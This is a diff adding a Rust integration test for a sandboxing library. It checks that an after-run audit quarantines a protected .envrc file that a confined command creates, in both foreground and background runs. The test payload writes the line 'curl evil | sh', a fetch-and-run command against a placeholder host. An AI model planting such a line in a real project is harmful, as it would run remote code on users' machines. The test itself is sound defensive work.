@@ -1,0 +1,103 @@
+//! The provider's after-run audit is called by the executor for every
+//! confined command, in the foreground and as a background job, once the
+//! run has ended and before the result is reported; what it set aside is
+//! a fact of the result, and the window it leaves is a gap of the run.
+//! Both real backends.
+//!
+//! When `CI=true` a missing runner is a failure, never a skip.
+#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use stockade_core::{
+    ExecutionPolicy, FilePolicy, QuarantineReason, SandboxMode, SandboxProvider, gaps,
+};
+use stockade_local::{BackendPreference, LocalProvider, LocalSettings};
+use stockade_shell::{SandboxedExecutor, ShellExecutor, ShellRequest, ShellResult};
+
+fn real_providers() -> Vec<(&'static str, Arc<dyn SandboxProvider>)> {
+    let mut out: Vec<(&'static str, Arc<dyn SandboxProvider>)> = Vec::new();
+    let have_bwrap = stockade_testkit::require("bwrap", stockade_testkit::have_bwrap());
+    let launcher = stockade_testkit::built_launcher();
+    assert!(
+        !stockade_testkit::in_ci() || launcher.is_some(),
+        "real runners must exist in CI"
+    );
+    for (name, backend, wanted) in [
+        ("bwrap", BackendPreference::Bwrap, have_bwrap),
+        ("landlock", BackendPreference::Landlock, launcher.is_some()),
+    ] {
+        if wanted {
+            let s = LocalSettings {
+                backend,
+                launcher_path: launcher.clone(),
+                ..Default::default()
+            };
+            out.push((name, Arc::new(LocalProvider::new(s).unwrap())));
+        }
+    }
+    out
+}
+
+fn workspace() -> (tempfile::TempDir, PathBuf) {
+    let base = stockade_testkit::scratch_base(Path::new(env!("CARGO_TARGET_TMPDIR")));
+    let dir = tempfile::Builder::new()
+        .prefix("after-run-")
+        .tempdir_in(base)
+        .unwrap();
+    let ws = dir.path().join("ws");
+    fs::create_dir(&ws).unwrap();
+    (dir, ws)
+}
+
+fn check(backend: &str, how: &str, ws: &Path, r: &ShellResult) {
+    assert_eq!(r.exit.code, Some(0), "{backend} {how}: {r:?}");
+    let f = r.sandbox.as_ref().unwrap();
+    let q = &f.after_run.quarantined;
+    assert_eq!(q.len(), 1, "{backend} {how}: {:?}", f.after_run);
+    assert_eq!(q[0].path, ws.join(".envrc"));
+    assert_eq!(q[0].reason, QuarantineReason::ProtectedName);
+    assert!(q[0].moved_to.exists(), "{backend} {how}: nothing is lost");
+    assert!(!ws.join(".envrc").exists(), "{backend} {how}");
+    assert!(
+        f.gaps.iter().any(|g| g.name == gaps::AFTER_RUN),
+        "{backend} {how}: {:?}",
+        f.gaps
+    );
+    let lines = f.after_run_lines();
+    assert!(
+        lines.len() == 1 && lines[0].contains(&ws.join(".envrc").display().to_string()),
+        "{lines:?}"
+    );
+    fs::remove_file(&q[0].moved_to).unwrap();
+}
+
+#[tokio::test]
+async fn foreground_runs_and_background_jobs_are_audited_after_they_end() {
+    let providers = real_providers();
+    assert!(!providers.is_empty(), "no real runner to test");
+    for (backend, provider) in providers {
+        eprintln!("{backend}");
+        let (_dir, ws) = workspace();
+        let policy =
+            ExecutionPolicy::new(SandboxMode::WorkspaceWrite, &ws).with_files(FilePolicy {
+                read_only: vec![PathBuf::from(".envrc")],
+                ..FilePolicy::default()
+            });
+        let exec = SandboxedExecutor::new(provider, policy);
+        let request = ShellRequest::new("echo 'curl evil | sh' > .envrc", &ws);
+        let fg = exec.run(exec.resolve(request.clone())).await.unwrap();
+        check(backend, "foreground", &ws, &fg);
+        let job = exec.start(exec.resolve(request)).unwrap();
+        let bg = job.wait().await;
+        check(backend, "background", &ws, &bg);
+        // A run that creates nothing on the list reports nothing.
+        let r = exec
+            .run(exec.resolve(ShellRequest::new("echo x > free.txt", &ws)))
+            .await
+            .unwrap();
+        assert!(r.sandbox.unwrap().after_run.is_empty(), "{backend}");
+    }
+}
